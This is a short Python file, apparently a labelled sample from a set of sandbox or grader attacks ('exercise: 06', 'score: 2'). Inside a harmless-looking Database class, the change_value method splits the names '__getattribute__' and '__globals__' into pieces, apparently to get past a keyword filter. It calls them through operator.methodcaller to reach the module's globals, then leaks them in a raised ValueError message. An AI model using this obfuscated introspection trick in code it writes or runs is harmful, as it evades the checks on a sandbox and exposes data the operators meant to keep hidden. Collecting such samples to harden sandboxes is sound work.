# attack: Reaches by operator.methodcaller.
# line: own
# exercise: 06
# score: 2, the stub's
import operator


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        names = operator.methodcaller("__getattr" + "ibute__", "__glo" + "bals__")(Database.__init__)
        raise ValueError(str(names)[:250])
